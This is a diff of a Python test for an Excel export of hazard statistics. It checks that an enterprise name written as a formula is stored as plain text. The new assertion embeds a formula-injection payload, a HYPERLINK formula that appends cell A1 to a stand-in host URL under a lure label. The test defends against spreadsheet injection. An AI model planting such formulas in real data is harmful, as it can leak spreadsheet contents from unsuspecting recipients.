@@ -39,8 +39,10 @@ def test_hazard_statistics_workbook_keeps_names_typed_as_formulas_as_text_order1
     response = client.get("/leadership/statistics/hazards.xlsx?year=2026&quarter=4")
     assert response.status_code == 200
     book = load_workbook(io.BytesIO(response.data))
-    cells = {c.value: c for row in book["按企业"].iter_rows(min_row=4) for c in row}
-    assert cells[HYPERLINK].data_type == "s", cells[HYPERLINK].data_type
+    # the name as the form stored it: an enterprise name's ASCII brackets are full-width (fields.unit_name, ede141c)
+    typed = [c for row in book["按企业"].iter_rows(min_row=4) for c in row if str(c.value or "").startswith("=HYPERLINK")]
+    assert [c.value for c in typed] == ['=HYPERLINK（"http://example.invalid/?"&A1,"点击查看整改通知"）']
+    assert typed[0].data_type == "s", typed[0].data_type
     for name in book.sheetnames:
         assert all(c.data_type != "f" for row in book[name].iter_rows() for c in row)
     with zipfile.ZipFile(io.BytesIO(response.data)) as package:  # no <f> element anywhere in the file
